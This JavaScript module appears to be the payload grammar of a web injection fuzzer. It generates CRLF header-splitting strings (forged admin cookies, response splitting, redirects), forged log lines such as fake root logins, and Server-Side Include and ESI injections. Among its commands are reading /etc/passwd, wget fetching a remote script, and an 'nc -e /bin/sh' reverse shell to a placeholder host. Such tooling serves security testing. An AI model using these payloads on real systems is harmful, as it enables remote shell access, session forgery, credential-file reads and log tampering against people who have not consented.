/** Split headers and server-side includes. */
import { lettersOf, lines } from './grammar.mjs'

export const PROTOCOL = {
  header: lines`
    §hval§§crlf§§hname§: §rnd§
    §hval§§crlf§Set-Cookie:§sp§§rnd§=§rnd§
    §hval§§crlf§Set-Cookie: admin=true
    §hval§§crlf§Location:§sp§http://§host§
    §hval§§crlf§Content-Length:§sp§0§crlf§§crlf§HTTP/1.1 200 OK§crlf§Content-Type: text/html§crlf§§crlf§<html>§rnd§</html>
    §hval§§crlf§§crlf§<script>alert(1)</script>
    §hval§§crlf§Content-Type: text/html§crlf§§crlf§<h1>§rnd§</h1>
    §hval§§crlf§Access-Control-Allow-Origin:§sp§*
    §hval§§crlf§X-§rnd§:§sp§§rnd§
    §hval§§crlf§Host:§sp§§host§
    §hval§§crlf§bcc:§sp§§rnd§@§host§
    §hval§§crlf§Subject: §rnd§§crlf§To: §rnd§@§host§
    §hval§§crlf§§crlf§GET /§word§ HTTP/1.1§crlf§Host: §host§
    §hval§§crlf§Transfer-Encoding: chunked§crlf§§crlf§0
    §hval§§crlf§Refresh: 0;url=http://§host§
    §hval§§crlf§Link: <http://§host§>
    §hval§§crlf§X-XSS-Protection:0
    §hval§§crlf§Status: 302
    §hval§§crlf§HTTP/1.0 200 OK
    §crlf§Set-Cookie:§rnd§=1;
    §crlf§Location: //§host§
    §crlf§Header-§rnd§:§rnd§
    //§host§/§crlf§Set-Cookie:§rnd§
    /§word§§crlf§X-Injected: §rnd§
    §hval§§crlf§§logline§
    §hval§§crlf§§logline§
    §hval§§crlf§§logline§
    §hval§§crlf§§logline§§crlf§
    §rnd§§crlf§§logline§
    admin§crlf§§logline§
  `,
  logline: lines`
    [§level§] §logged§
    §level§: §logged§
    §level§ §logged§
    §day§ §level§ §logged§
    §day§ [§level§] §rnd§ - §logged§
    §day§ §logged§
    [§day§] §level§ §logged§
    level=§level§ msg="§logged§"
    {"level":"§level§","msg":"§logged§"}
    127.0.0.1 - - [01/Jan/2026:00:00:00 +0000] "GET /§word§ HTTP/1.1" 200 §num§
    Jan  1 00:00:0§n§ §rnd§ sshd[§num§]: Accepted password for root
    user=admin action=§word§ result=success
    §logged§
  `,
  level: ['INFO', 'WARN', 'ERROR', 'SUCCESS', 'CRITICAL', 'DEBUG', 'AUDIT', 'info', 'error', 'warning'],
  day: ['2026-0§n§-01', '2026-0§n§-01 10:0§n§:00', '2026-0§n§-01T10:0§n§:00Z', '01/01/2026'],
  logged: [
    'Login successful for admin',
    'User admin logged in',
    'Successful login from 127.0.0.1',
    'Audit log cleared',
    'User §rnd§ deleted',
    'System compromised',
    'Access granted to §rnd§',
    'admin authenticated',
    'password changed for root',
    'Payment approved',
  ],
  hval: [
    '',
    '',
    '§rnd§',
    '/§word§',
    'en',
    'http://example.com/',
    '?x=',
    '%3f',
    '%23',
    'en-US',
    '/',
    '§num§',
    'foo',
    'index.html',
    '//google.com/%2f..',
  ],
  crlf: [
    '\r\n',
    '%0d%0a',
    '%0D%0A',
    '%0a',
    '%0d',
    '\\r\\n',
    '%250d%250a',
    '\n',
    '%E5%98%8A%E5%98%8D',
    '\r',
    '%23%0d%0a',
    '%5cr%5cn',
    '%u000d%u000a',
    '\r\n ',
    '%0d%0a%20',
    '%3f%0d%0a',
    '%%0d0a',
    '%0d%0a%09',
    '嘊嘍',
    '\\n',
  ],
  hname: [
    'X-Injected',
    'Set-Cookie',
    'Location',
    'Content-Type',
    'X-Forwarded-For',
    'X-Test',
    'Header',
    'Cookie',
    'Cache-Control',
    'X-§rnd§',
    'Strict-Transport-Security',
    'Content-Security-Policy',
    'X-Frame-Options',
    'X-Powered-By',
    'Expect',
    'Pragma',
    'Authorization',
    'Referer',
    'P3P',
    'ETag',
    'Content-Disposition',
    'Injected-Header',
    'Origin',
    'Via',
    'X-Cache',
  ],
  sp: ['', ' ', '%20'],

  ssi: lines`
    <!--#exec cmd="§shell§"-->
    <!--#exec cmd="§shell§" -->
    <!--#exec cgi="/cgi-bin/§rnd§.cgi"-->
    <!--#include virtual="/§target§"-->
    <!--#include file="§climb§§target§"-->
    <!--#include virtual="/cgi-bin/§rnd§.pl" -->
    <!--#echo var="§var§"-->
    <!--#echo var="§var§" -->
    <!--#printenv -->
    <!--#set var="§rnd§" value="§rnd§" -->
    <!--#config errmsg="§rnd§" timefmt="%A"-->
    <!--#flastmod virtual="§rnd§.html"-->
    <!--#fsize file="§rnd§.shtml" -->
    <!--#if expr="§rnd§"--><!--#endif-->
    <esi:include src="http://§host§/§rnd§"/>
    <esi:include src=http://§host§/>
    x=<esi:assign name="var1" value="'cript'"/><s<esi:vars name="$(var1)"/>>alert(1)</s>
    <esi:vars>$(HTTP_COOKIE)</esi:vars>
    <esi:debug/>
    <!--esi $add_header('Location','http://§host§') -->
    §brk§<!--#exec cmd="§shell§"-->
    <!-- #exec cmd="§shell§" -->
    <pre><!--#exec cmd="§shell§" --></pre>
  `,
  var: [
    'DATE_LOCAL',
    'DOCUMENT_NAME',
    'HTTP_USER_AGENT',
    'REMOTE_ADDR',
    'QUERY_STRING',
    'DOCUMENT_ROOT',
    'LAST_MODIFIED',
    'auth_type',
    'http_cookie',
    'server_name',
    'DATE_GMT',
    'PATH',
  ],
  shell: [
    'id',
    'ls',
    'cat /etc/passwd',
    'whoami',
    'dir',
    'wget http://§host§/s.sh',
    'uname -a',
    'nc -e /bin/sh §host§ 4444',
    'ls -la /',
    'ping -c 3 §host§',
  ],
  wide: (r) => lettersOf(r, 5, 'ａｂｃｄｅ'),
}
